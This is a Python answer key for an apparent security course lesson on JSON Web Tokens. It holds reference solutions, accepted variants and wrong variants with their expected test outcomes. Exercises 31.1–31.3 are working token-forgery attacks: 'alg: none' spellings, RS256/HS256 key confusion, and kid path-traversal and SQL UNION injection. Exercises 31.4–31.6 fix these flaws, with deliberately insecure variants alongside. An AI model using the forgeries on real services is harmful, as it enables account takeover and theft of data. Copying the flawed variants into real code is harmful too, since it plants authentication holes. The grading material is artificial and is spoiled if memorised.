"""Answers to the exercises of lesson 31, right and wrong."""


# ---- 31.1 ----------------------------------------------------------------------------------------------------

NONE_FALLS = "A bank that believes none falls"
SPELLING_FALLS = "A bank that has banned all spellings but one falls"
STANDS = "A bank where the key decides holds: None"

FORGE_NONE = '''
import base64
import json

def decoded(part):
    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))

def encoded(value):
    return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()

def forge_none(sample, victim, http):
    header, claims, _ = sample.split(".")
    claims = encoded(decoded(claims) | {"sub": victim})
    for n in range(16):
        alg = "".join(c.upper() if n >> i & 1 else c for i, c in enumerate("none"))
        token = encoded(decoded(header) | {"alg": alg}) + "." + claims + "."
        answer = http("GET", "/balance", {"Authorization": "Bearer " + token}, None)
        if answer["status"] == 200:
            return json.loads(answer["body"])["balance"]
    return None
'''
FORGE_NONE_RIGHT = {
    "by recursion, and bytes": '''
import json
from base64 import urlsafe_b64encode, urlsafe_b64decode

def ways(word):
    return [""] if not word else [c + rest for rest in ways(word[1:]) for c in {word[0], word[0].upper()}]

def forge_none(sample, victim, http):
    head, body = [json.loads(urlsafe_b64decode(p + "===")) for p in sample.split(".")[:2]]
    body["sub"] = victim
    b64 = lambda d: urlsafe_b64encode(json.dumps(d, separators=(",", ":")).encode()).decode().replace("=", "")
    for alg in ways("none"):
        head["alg"] = alg
        got = http("GET", "/balance", {"Authorization": f"Bearer {b64(head)}.{b64(body)}."})
        if got["status"] == 200:
            return json.loads(got["body"])["balance"]
''',
    "from the other end": ("range(16)", "reversed(range(16))"),
}  # fmt: skip
FORGE_NONE_WRONG = {
    "nothing": ("def forge_none(sample, victim, http):\n    return None", {NONE_FALLS: "no loss"}),
    "the sample itself": (
        ('token = encoded(decoded(header) | {"alg": alg}) + "." + claims + "."', "token = sample"),
        {NONE_FALLS: "no loss"},
    ),
    "Mallory's own claims": ((' | {"sub": victim}', ""), {NONE_FALLS: "no loss"}),
    "two parts": (('claims + "."', "claims"), {NONE_FALLS: "no loss"}),
    "the old signature": (
        (('claims + "."', 'claims + "." + sample.split(".")[2]')),
        {NONE_FALLS: "no loss"},
    ),
    "claims of one's own": (
        ('decoded(claims) | {"sub": victim}', '{"sub": victim, "exp": 2000000000}'), {NONE_FALLS: "no loss"},
    ),
    "a header of one's own": (('decoded(header) | {"alg": alg}', '{"alg": alg}'), {NONE_FALLS: "no loss"}),
    "only none": (("range(16)", "range(1)"), {SPELLING_FALLS: "no loss"}),
    "none, None, NONE, nOnE": (
        ("range(16)", "(0, 1, 15, 10)"), {SPELLING_FALLS: "no loss"},
    ),
    "a number for who is not let in": (("    return None\n", "    return 0\n"), {STANDS: "gave 0"}),
    "the whole answer": (
        ('json.loads(answer["body"])["balance"]', 'answer["body"]'), {NONE_FALLS: "gave '{"},
    ),
    "it asks for the balance, and gives another": (
        ('json.loads(answer["body"])["balance"]', "1000"), {NONE_FALLS: "gave 1000"},
    ),
}  # fmt: skip

# ---- 31.2 ----------------------------------------------------------------------------------------------------

PEM_FALLS = "A bank whose secret is the PEM's text falls"
FORMS_FALL = "A bank that keeps its key in another form falls"

FORGE_CONFUSED = '''
import base64
import hmac
import json

def decoded(part):
    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))

def encoded(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()

def forge_confused(sample, victim, pem, http):
    header, claims = [decoded(part) for part in sample.split(".")[:2]]
    parts = header | {"alg": "HS256"}, claims | {"sub": victim}
    signed = ".".join(encoded(json.dumps(part).encode()) for part in parts)
    der = base64.b64decode("".join(pem.strip().splitlines()[1:-1]))
    for secret in (pem.encode(), pem.strip().encode(), der):
        token = signed + "." + encoded(hmac.digest(secret, signed.encode(), "sha256"))
        answer = http("GET", "/balance", {"Authorization": "Bearer " + token}, None)
        if answer["status"] == 200:
            return json.loads(answer["body"])["balance"]
    return None
'''
FORGE_CONFUSED_RIGHT = {
    "with hmac.new, the DER first": (
        [('hmac.digest(secret, signed.encode(), "sha256")', 'hmac.new(secret, signed.encode(), "sha256").digest()'),
         ("(pem.encode(), pem.strip().encode(), der)", "(der, pem.encode().rstrip(), pem.encode())")]
    ),
    "the whole sample rewritten": (
        'parts = header | {"alg": "HS256"}, claims | {"sub": victim}',
        'header["alg"] = "HS256"; claims["sub"] = victim; parts = [header, claims]',
    ),
}  # fmt: skip
FORGE_CONFUSED_WRONG = {
    "none": (('"alg": "HS256"', '"alg": "none"'), {PEM_FALLS: "no loss"}),
    "the alg of the sample": (('header | {"alg": "HS256"}', "header"), {PEM_FALLS: "no loss"}),
    "without its last newline only": (
        ("(pem.encode(), pem.strip().encode(), der)", "(pem.strip().encode(),)"), {PEM_FALLS: "no loss"},
    ),
    "as it is only": (("(pem.encode(), pem.strip().encode(), der)", "(pem.encode(),)"), {FORMS_FALL: "no loss"}),
    "no DER": (("(pem.encode(), pem.strip().encode(), der)", "(pem.encode(), pem.strip().encode())"),
               {FORMS_FALL: "no loss"}),
    "the base64 of the DER": (("base64.b64decode(\"\".join(pem.strip().splitlines()[1:-1]))",
                               "\"\".join(pem.strip().splitlines()[1:-1]).encode()"), {FORMS_FALL: "no loss"}),
    "an HMAC of the claims alone": (
        ('signed.encode(), "sha256"', 'signed.split(".")[1].encode(), "sha256"'), {PEM_FALLS: "no loss"},
    ),
    "in hex": (
        ('encoded(hmac.digest(secret, signed.encode(), "sha256"))',
         'hmac.digest(secret, signed.encode(), "sha256").hex()'), {PEM_FALLS: "no loss"},
    ),
    "SHA-512": (('"sha256"', '"sha512"'), {PEM_FALLS: "no loss"}),
    "a number for who is not let in": (("    return None\n", "    return -1\n"), {STANDS: "gave -1"}),
    "Mallory's own balance": ((' | {"sub": victim}', ""), {PEM_FALLS: "no loss"}),
}  # fmt: skip

# ---- 31.3 ----------------------------------------------------------------------------------------------------

PATH_FALLS = "A bank that makes a path of the kid falls"
CLEANED_FALLS = "A bank that takes every ../ out of it falls"
QUERY_FALLS = "A bank that makes SQL of the kid falls"
KID_STANDS = "A bank that looks the kid up holds: None"

FORGE_KID = '''
import base64
import hmac
import json

def decoded(part):
    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))

def encoded(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()

def forge_kid(sample, victim, http):
    header, claims = [decoded(part) for part in sample.split(".")[:2]]
    for kid, secret in (
        ("../" * 20 + "dev/null", b""),
        ("....//" * 20 + "dev/null", b""),
        ("x' UNION SELECT 'mallory' --", b"mallory"),
    ):
        parts = header | {"kid": kid}, claims | {"sub": victim}
        signed = ".".join(encoded(json.dumps(part).encode()) for part in parts)
        token = signed + "." + encoded(hmac.digest(secret, signed.encode(), "sha256"))
        answer = http("GET", "/balance", {"Authorization": "Bearer " + token}, None)
        if answer["status"] == 200:
            return json.loads(answer["body"])["balance"]
    return None
'''
FORGE_KID_RIGHT = {
    "in another order, with other SQL": (
        [('("x\' UNION SELECT \'mallory\' --", b"mallory"),',
          '("\' UNION SELECT x\'00\' WHERE \'1\'=\'1", bytes(1)),'),
         ("hmac.digest(secret, signed.encode(), \"sha256\")", "hmac.new(secret, signed.encode(), 'sha256').digest()")]
    ),
    "one at a time up the tree": '''
import base64, hmac, json

def forge_kid(sample, victim, http):
    b64 = lambda raw: base64.urlsafe_b64encode(raw).decode().rstrip("=")
    load = lambda part: json.loads(base64.urlsafe_b64decode(part + "=="))
    head, body = map(load, sample.split(".")[:2])
    body["sub"] = victim
    kids = [("../" * n + "dev/null", b"") for n in range(1, 16)]
    kids += [("....//" * n + "dev/null", b"") for n in range(1, 16)] + [("' UNION SELECT 'k", b"k")]
    for kid, key in kids:
        head["kid"] = kid
        text = b64(json.dumps(head).encode()) + "." + b64(json.dumps(body).encode())
        token = text + "." + b64(hmac.digest(key, text.encode(), "sha256"))
        got = http("GET", "/balance", {"Authorization": "Bearer " + token})
        if got["status"] == 200:
            return json.loads(got["body"])["balance"]
''',
}  # fmt: skip
FORGE_KID_WRONG = {
    "nothing": ("def forge_kid(sample, victim, http):\n    return None", {PATH_FALLS: "no loss"}),
    "a few steps up": (("(\"../\" * 20", "(\"../\" * 7"), {PATH_FALLS: "no loss"}),
    "one step up": (('"../" * 20', '"../"'), {PATH_FALLS: "no loss"}),
    "an absolute path": (('"../" * 20 + "dev/null"', '"/dev/null"'), {PATH_FALLS: "no loss"}),
    "a secret of one zero byte": (('"dev/null", b"")', '"dev/null", b"\\0\\1")'), {PATH_FALLS: "no loss"}),
    "the plain path only": (("(\"....//\" * 20 + \"dev/null\", b\"\"),\n", ""), {CLEANED_FALLS: "no loss"}),
    "no SQL": (('("x\' UNION SELECT \'mallory\' --", b"mallory"),', ""), {QUERY_FALLS: "no loss"}),
    "OR 1=1": (
        ('"x\' UNION SELECT \'mallory\' --", b"mallory"', '"x\' OR 1=1 --", b"mallory"'), {QUERY_FALLS: "no loss"},
    ),
    "an open quote": (("'mallory' --", "'mallory'"), {QUERY_FALLS: "no loss"}),
    "another secret than it brings": ((', b"mallory")', ', b"Mallory")'), {QUERY_FALLS: "no loss"}),
    "a number for who is not let in": (("    return None\n", "    return 7\n"), {KID_STANDS: "gave 7"}),
    "a hundred requests": (
        ("    return None\n", "    for _ in range(100): http('GET', '/balance', {}, None)\n    return None\n"),
        {KID_STANDS: "forge_kid() sent 103"},
    ),
}  # fmt: skip

# ---- 31.4 ----------------------------------------------------------------------------------------------------

HONEST_TOKENS = "Honest tokens are accepted, damaged ones are not"
SAYS_NONE = "A token that says none is refused"
OTHER_ALGS = "And so is every other alg than HS256"
UNSIGNED = "HS256 without a good signature is refused"
ODD_TOKENS = "What is no token is None, never an error"

PAYLOAD = '''
import base64
import hmac
import json

def decoded(part):
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))

def payload(token, secret):
    try:
        first, second, third = token.split(".")
        header = json.loads(decoded(first))
        if not isinstance(header, dict) or header.get("alg") != "HS256":
            return None
        mac = hmac.digest(secret, f"{first}.{second}".encode(), "sha256")
        return decoded(second) if hmac.compare_digest(mac, decoded(third)) else None
    except (ValueError, RecursionError):
        return None
'''
PAYLOAD_RIGHT = {
    "by whole signatures": '''
import base64, binascii, hashlib, hmac, json

def payload(token, secret):
    parts = token.split(".")
    if len(parts) != 3 or not token.isascii():
        return None
    try:
        header, body, signature = [base64.urlsafe_b64decode(part + "===") for part in parts]
        alg = json.loads(header)["alg"]
    except (binascii.Error, ValueError, KeyError, TypeError, RecursionError):
        return None
    wanted = hmac.new(secret, token.rpartition(".")[0].encode(), hashlib.sha256).digest()
    if hmac.compare_digest(wanted, signature) and alg == "HS256":
        return body
''',
    "the header compared last": (
        [('        if not isinstance(header, dict) or header.get("alg") != "HS256":\n            return None\n', ""),
         ("hmac.compare_digest(mac, decoded(third)) else",
          "hmac.compare_digest(mac, decoded(third)) and type(header) is dict and header.get('alg') == 'HS256' else")]
    ),
}  # fmt: skip
CHECK = 'if not isinstance(header, dict) or header.get("alg") != "HS256":\n            return None'
PAYLOAD_WRONG = {
    "the flaw": (
        (CHECK, 'if header["alg"] == "none":\n            return decoded(second)'),
        {SAYS_NONE: "mallory read ana's balance", OTHER_ALGS: "", ODD_TOKENS: "raised TypeError"},
    ),
    "nothing is looked at": ("""
import base64

def payload(token, secret):
    part = token.split(".")[1]
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))
""", {HONEST_TOKENS: "mallory read"}),
    "everybody is refused": ("def payload(token, secret):\n    return None", {HONEST_TOKENS: "answered 401"}),
    "that word is banned": (
        (CHECK, 'if header.get("alg") == "none":\n            return None\n        if header.get("alg") != "HS256":\n'
                '            return decoded(second)'),
        {OTHER_ALGS: "mallory read", ODD_TOKENS: "raised AttributeError"},
    ),
    "in capitals too": (
        (CHECK, 'if header["alg"].lower() == "none":\n            return None\n        '
                'if header["alg"] != "HS256":\n            return decoded(second)'),
        {OTHER_ALGS: "", ODD_TOKENS: "raised TypeError"},
    ),
    "no signature, no check": (
        ("        mac =", "        if not third:\n            return decoded(second)\n        mac ="),
        {UNSIGNED: "mallory read"},
    ),
    "alg in any case": (
        ('header.get("alg") != "HS256"', 'str(header.get("alg")).upper() != "HS256"'),
        {OTHER_ALGS: "payload() gave b'"},
    ),
    "the header is not looked at": (
        (CHECK, "pass"), {OTHER_ALGS: "payload() gave b'", ODD_TOKENS: "payload() gave b'"},
    ),
    "as much of it as there is": (
        ("hmac.compare_digest(mac, decoded(third))", "mac.startswith(decoded(third))"), {UNSIGNED: "mallory read"},
    ),
    "a MAC of the claims alone": (
        ('f"{first}.{second}".encode()', "second.encode()"), {HONEST_TOKENS: "answered 401"},
    ),
    "errors go through": (
        ("except (ValueError, RecursionError)", "except ZeroDivisionError"), {ODD_TOKENS: "raised"},
    ),
    "the header is always a dict": (("not isinstance(header, dict) or ", ""), {ODD_TOKENS: "raised AttributeError"}),
    "the claims, not the bytes": (
        ("return decoded(second) if", "return json.loads(decoded(second)) if"), {HONEST_TOKENS: "bytes or None"},
    ),
    "nested too deep": (("except (ValueError, RecursionError)", "except ValueError"), {ODD_TOKENS: "RecursionError"}),
    "somewhere in the header": (
        (CHECK, """import re
        if not isinstance(header, dict) or not re.search(rb'"alg": ?"HS256"', decoded(first)):
            return None"""),
        {OTHER_ALGS: "payload() gave b'"},
    ),
    "what was good once": (
        [("def payload(", "GOOD = set()\n\ndef payload("),
         ("        return decoded(second) if hmac",
          "        if hmac.compare_digest(mac, decoded(third)):\n            GOOD.add((first, second))\n"
          "        return decoded(second) if (first, second) in GOOD or hmac")],
        {HONEST_TOKENS: "mallory read"},
    ),
    "a signature that was good once": (
        [("def payload(", "GOOD = set()\n\ndef payload("),
         ("        return decoded(second) if hmac",
          "        if hmac.compare_digest(mac, decoded(third)):\n            GOOD.add(third)\n"
          "        return decoded(second) if third in GOOD or hmac")],
        {UNSIGNED: "mallory read"},
    ),
    "three parts or more": (
        ('first, second, third = token.split(".")', 'first, second, third, *_ = token.split(".")'),
        {ODD_TOKENS: "payload() gave b'"},
    ),
}  # fmt: skip

# ---- 31.5 ----------------------------------------------------------------------------------------------------

HONEST_GOODS = "Honest tokens of all keys are accepted, damaged ones are not"
PEM_SECRET = "The PEM of the RSA key is no secret"
JWK_SECRET = "Nor is the text of the other key"
OTHER_ALG = "Another alg than the key's is False, never an error"
BAD = "A bad signature is False, never an error"

GOOD_HELP = '''
import base64
import hmac
import json

from cryptography.exceptions import InvalidSignature
from cryptography.hazmat.primitives.asymmetric import ec, padding
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import load_pem_public_key

def number(data):
    return int.from_bytes(data if isinstance(data, bytes) else base64.urlsafe_b64decode(data + "=="), "big")

def hmac_good(text, signed, signature):
    return hmac.compare_digest(hmac.digest(text.encode(), signed, "sha256"), signature)

def rsa_good(text, signed, signature):
    load_pem_public_key(text.encode()).verify(signature, signed, padding.PKCS1v15(), SHA256())
    return True

def ec_good(text, signed, signature):
    jwk = json.loads(text)
    key = ec.EllipticCurvePublicNumbers(number(jwk["x"]), number(jwk["y"]), ec.SECP256R1()).public_key()
    if len(signature) != 64:
        return False
    der = encode_dss_signature(number(signature[:32]), number(signature[32:]))
    key.verify(der, signed, ec.ECDSA(SHA256()))
    return True
'''
GOOD = GOOD_HELP + '''
CHECKS = {"HS256": hmac_good, "RS256": rsa_good, "ES256": ec_good}

def good(alg, signed, signature, key):
    if alg != key["alg"]:
        return False
    try:
        return CHECKS[key["alg"]](key["text"], signed, signature)
    except InvalidSignature:
        return False
'''
GOOD_RIGHT = {
    "one after the other": (
        '''    try:
        return CHECKS[key["alg"]](key["text"], signed, signature)
    except InvalidSignature:
        return False
''',
        '''    try:
        if key["alg"] == "HS256":
            return hmac_good(key["text"], signed, signature)
        if key["alg"] == "RS256":
            return rsa_good(key["text"], signed, signature)
        return ec_good(key["text"], signed, signature)
    except Exception:
        return False
''',
    ),
    "the key's check, and then the header": (
        '''    if alg != key["alg"]:
        return False
    try:
        return CHECKS[key["alg"]](key["text"], signed, signature)
''',
        '''    try:
        return CHECKS[key["alg"]](key["text"], signed, signature) and alg == key["alg"]
''',
    ),
}  # fmt: skip
ASK = '    if alg != key["alg"]:\n        return False\n'
GOOD_WRONG = {
    "the flaw": (
        [(ASK, ""), ('CHECKS[key["alg"]]', "CHECKS[alg]")],
        {PEM_SECRET: "mallory read", JWK_SECRET: "mallory read", OTHER_ALG: "raised"},
    ),
    "the flaw, and no error": (
        [(ASK, ""), ('CHECKS[key["alg"]]', "CHECKS[alg]"), ("except InvalidSignature", "except Exception")],
        {PEM_SECRET: "mallory read", JWK_SECRET: "mallory read"},
    ),
    "no PEM for HS256": (
        [(ASK, '    if alg == "HS256" and "BEGIN" in key["text"]:\n        return False\n'),
         ('CHECKS[key["alg"]]', "CHECKS[alg]"), ("except InvalidSignature", "except Exception")],
        {JWK_SECRET: "mallory read"},
    ),
    "no RSA for HS256": (
        [(ASK, '    if alg == "HS256" and key["alg"] == "RS256":\n        return False\n'),
         ('CHECKS[key["alg"]]', "CHECKS[alg]"), ("except InvalidSignature", "except Exception")],
        {JWK_SECRET: "mallory read"},
    ),
    "whatever the header says": ((ASK, ""), {OTHER_ALG: "gave True"}),
    "none is none": (
        (ASK, '    if str(alg).lower() == "none":\n        return True\n' + ASK),
        {OTHER_ALG: "gave True"},
    ),
    "everybody is refused": (
        "def good(alg, signed, signature, key):\n    return False", {HONEST_GOODS: "answered 401"},
    ),
    "everybody is let in": (
        "def good(alg, signed, signature, key):\n    return True", {HONEST_GOODS: "mallory read"},
    ),
    "only the alg": (
        "def good(alg, signed, signature, key):\n    return alg == key['alg']", {HONEST_GOODS: "mallory read"},
    ),
    "a signature that is short is none": (
        (ASK, ASK + "    if not signature:\n        return True\n"), {BAD: "gave True"},
    ),
    "no HS256 any more": (
        (ASK, '    if alg == "HS256":\n        return False\n' + ASK), {HONEST_GOODS: "answered 401"},
    ),
    "errors go through": (
        ("except InvalidSignature", "except ZeroDivisionError"), {HONEST_GOODS: "raised InvalidSignature"},
    ),
    "by the look of the text": (
        ("    if alg != key[\"alg\"]:",
         "    look = {'-': 'RS256', '{': 'ES256'}.get(key['text'][:1], 'HS256')\n    if alg != look:"),
        {JWK_SECRET: "good() gave False"},
    ),
    "what was good once": (
        [(ASK, ASK + "    if signed in GOOD:\n        return True\n"), ("CHECKS =", "GOOD = set()\nCHECKS ="),
         ('        return CHECKS[key["alg"]](key["text"], signed, signature)\n',
          '        if CHECKS[key["alg"]](key["text"], signed, signature):\n            GOOD.add(signed)\n'
          "        return signed in GOOD\n")],
        {HONEST_GOODS: "mallory read"},
    ),
    "a signature that was good once": (
        [(ASK, ASK + "    if signature in GOOD:\n        return True\n"), ("CHECKS =", "GOOD = set()\nCHECKS ="),
         ('        return CHECKS[key["alg"]](key["text"], signed, signature)\n',
          '        if CHECKS[key["alg"]](key["text"], signed, signature):\n            GOOD.add(signature)\n'
          "        return signature in GOOD\n")],
        {BAD: "good() gave [True, True, True]"},
    ),
    "a set of what is allowed": (
        [(ASK, '    if alg not in CHECKS:\n        return False\n'), ('CHECKS[key["alg"]]', "CHECKS[alg]")],
        {PEM_SECRET: "mallory read", JWK_SECRET: "mallory read", OTHER_ALG: "raised"},
    ),
}  # fmt: skip

# ---- 31.6 ----------------------------------------------------------------------------------------------------

FILES = "Honest kids find their file"
ROWS = "Honest kids find their row, o'brien's too"
LEADS_OUT = "A path that leads out of the folder finds nothing"
OTHER_PATHS = "Nor does any other path"
IS_SQL = "A kid that is SQL finds nothing"
OTHER_SQL = "Nor does it in other words, nor a shop's own key"
ODD_KIDS = "What is no name is None, never an error"

FINDERS = '''
import re

def from_file(kid, read):
    if not isinstance(kid, str) or not re.fullmatch(r"[A-Za-z0-9_-]+", kid):
        return None
    return read("keys/" + kid)

def from_table(kid, query):
    if not isinstance(kid, str):
        return None
    rows = query("SELECT secret FROM keys WHERE owner = 'fernbank' AND kid = ?", [kid])
    return rows[0][0] if rows else None
'''
PATTERN = 'or not re.fullmatch(r"[A-Za-z0-9_-]+", kid)'
PASTED = """query(f"SELECT secret FROM keys WHERE owner = 'fernbank' AND kid = '{kid}'")"""
DOUBLED = """kid.replace("o'", "o''").replace("d'", "d''")"""
QUOTED = PASTED.replace('f"', '"').replace("{kid}", "%s")[:-1] + f" % {DOUBLED})"
STATEMENT = 'query("SELECT secret FROM keys WHERE owner = \'fernbank\' AND kid = ?", [kid])'
FINDERS_RIGHT = {
    "no slash and no dot; all rows, and then one": '''
def from_file(kid, read):
    good = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_"
    if type(kid) is str and kid and all(letter in good for letter in kid):
        return read(f"keys/{kid}")

def from_table(kid, query):
    for name, secret in query("SELECT kid, secret FROM keys WHERE owner = ?", ("fernbank",)):
        if name == kid:
            return secret
''',
    "quotes doubled": (STATEMENT, """query("SELECT secret FROM keys WHERE owner = 'fernbank' AND kid = '"
        + kid.replace("'", "''").replace("\\0", "?") + "'")"""),
}  # fmt: skip
FINDERS_WRONG = {
    "both flaws": (
        [(PATTERN, ""), (STATEMENT, PASTED)],
        {ROWS: "answered 401"},
    ),
    "everybody is refused": (
        "def from_file(kid, read):\n    return None\n\ndef from_table(kid, query):\n    return None",
        {FILES: "answered 401", ROWS: "answered 401"},
    ),
    "any path": (
        (PATTERN, ""),
        {LEADS_OUT: "mallory read", OTHER_PATHS: "mallory read", ODD_KIDS: "from_file() gave"},
    ),
    "small letters only": (("[A-Za-z0-9_-]+", "[a-z0-9-]+"), {FILES: "answered 401"}),
    "no two dots": (
        (PATTERN, 'or ".." in kid'), {OTHER_PATHS: "mallory read", ODD_KIDS: "from_file() gave"},
    ),
    "../ is taken out": (
        [(PATTERN, ""), ('"keys/" + kid', '"keys/" + kid.replace("../", "")')],
        {OTHER_PATHS: "mallory read", ODD_KIDS: "from_file() gave"},
    ),
    "../ is taken out, and no slash in front": (
        [(PATTERN, ""), ('"keys/" + kid', '"keys/" + kid.replace("../", "").lstrip("/")')],
        {OTHER_PATHS: "mallory read", ODD_KIDS: "from_file() gave"},
    ),
    "an empty secret is none": (
        [(PATTERN, ""), ('return read("keys/" + kid)', 'return read("keys/" + kid) or None')],
        {LEADS_OUT: "mallory read", OTHER_PATHS: "mallory read", ODD_KIDS: "from_file() gave"},
    ),
    "any text at all": (
        ("if not isinstance(kid, str) or", "if"), {ODD_KIDS: "from_file raised TypeError"},
    ),
    "quotes are taken out": (
        (STATEMENT, PASTED.replace("{kid}", "{kid.replace(chr(39), str())}")),
        {ROWS: "answered 401"},
    ),
    "a quote is doubled in the wrong place": (
        (STATEMENT, QUOTED),
        {IS_SQL: "mallory read", OTHER_SQL: "mallory read"},
    ),
    "no UNION": (
        (STATEMENT, QUOTED + ' if "UNION" not in kid else []'),
        {OTHER_SQL: "mallory read"},
    ),
    "in double quotes": (
        (STATEMENT, """query(f'SELECT secret FROM keys WHERE owner = "fernbank" AND kid = "{kid}"')"""),
        {IS_SQL: "mallory read"},
    ),
    "letters of any alphabet": (("[A-Za-z0-9_-]+", r"[\w-]+"), {OTHER_PATHS: "mallory read"}),
    "a newline at the end": (
        ('re.fullmatch(r"[A-Za-z0-9_-]+"', 're.match(r"[A-Za-z0-9_-]+$"'), {OTHER_PATHS: "mallory read"},
    ),
    "no slash": ((PATTERN, 'or "/" in kid'), {OTHER_PATHS: "mallory read"}),
    "what stands behind the last slash": (
        [("[A-Za-z0-9_-]+", "[A-Za-z0-9_/-]+"), ('"keys/" + kid', '"keys/" + kid.rpartition("/")[2]')],
        {ODD_KIDS: "from_file() gave"},
    ),
    "a number": (
        ("    if not isinstance(kid, str):\n        return None\n    rows", "    rows"), {ODD_KIDS: ""},
    ),
    "not the shop's": (
        ("owner = 'fernbank'", "owner <> 'shop'"), {OTHER_SQL: ""},
    ),
    "the owner of the first row": (
        [("SELECT secret FROM keys WHERE owner = 'fernbank' AND", "SELECT secret, owner FROM keys WHERE"),
         ("if rows else", "if rows and rows[0][1] == 'fernbank' else")],
        {OTHER_SQL: "answered 401"},
    ),
    "whoever owns it": (
        ("owner = 'fernbank' AND ", ""), {OTHER_SQL: "answered 401"},
    ),
    "LIKE": (("kid = ?", "kid LIKE ?"), {ODD_KIDS: "from_table() gave"}),
    "the first row, whatever the name": (
        (STATEMENT, "query(\"SELECT secret FROM keys WHERE owner = 'fernbank'\")"), {ROWS: "answered 401"},
    ),
}  # fmt: skip

TABLE = {
    "31.1": (FORGE_NONE, FORGE_NONE_RIGHT, FORGE_NONE_WRONG),
    "31.2": (FORGE_CONFUSED, FORGE_CONFUSED_RIGHT, FORGE_CONFUSED_WRONG),
    "31.3": (FORGE_KID, FORGE_KID_RIGHT, FORGE_KID_WRONG),
    "31.4": (PAYLOAD, PAYLOAD_RIGHT, PAYLOAD_WRONG),
    "31.5": (GOOD, GOOD_RIGHT, GOOD_WRONG),
    "31.6": (FINDERS, FINDERS_RIGHT, FINDERS_WRONG),
}
